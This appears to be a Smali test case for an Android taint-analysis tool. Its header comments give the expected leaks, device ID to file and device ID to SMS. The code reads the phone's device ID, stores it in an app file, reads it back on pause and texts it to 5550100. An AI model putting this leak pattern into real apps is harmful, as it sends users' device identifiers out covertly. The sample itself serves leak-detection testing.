# written to a file of the app and read again
# expect: device id > file; device id > sms

.class public Lsample/Main;
.super Landroid/app/Activity;

.field public static phone:Landroid/telephony/TelephonyManager;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method public onCreate(Landroid/os/Bundle;)V
    .registers 12
    sget-object v0, Lsample/Main;->phone:Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    const-string v1, "f"
    const/4 v2, 0x0
    invoke-virtual {p0, v1, v2}, Lsample/Main;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
    move-result-object v1
    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
    move-result-object v0
    invoke-virtual {v1, v0}, Ljava/io/FileOutputStream;->write([B)V
    return-void
.end method

.method public onPause()V
    .registers 10
    const-string v1, "f"
    invoke-virtual {p0, v1}, Lsample/Main;->openFileInput(Ljava/lang/String;)Ljava/io/FileInputStream;
    move-result-object v1
    const/16 v2, 0x40
    new-array v2, v2, [B
    invoke-virtual {v1, v2}, Ljava/io/FileInputStream;->read([B)I
    new-instance v0, Ljava/lang/String;
    invoke-direct {v0, v2}, Ljava/lang/String;-><init>([B)V
    invoke-static {v0}, Lsample/Out;->send(Ljava/lang/String;)V
    return-void
.end method

.class public Lsample/Out;
.super Ljava/lang/Object;

.method public static send(Ljava/lang/String;)V
    .registers 8
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "5550100"
    const/4 v2, 0x0
    move-object v3, p0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
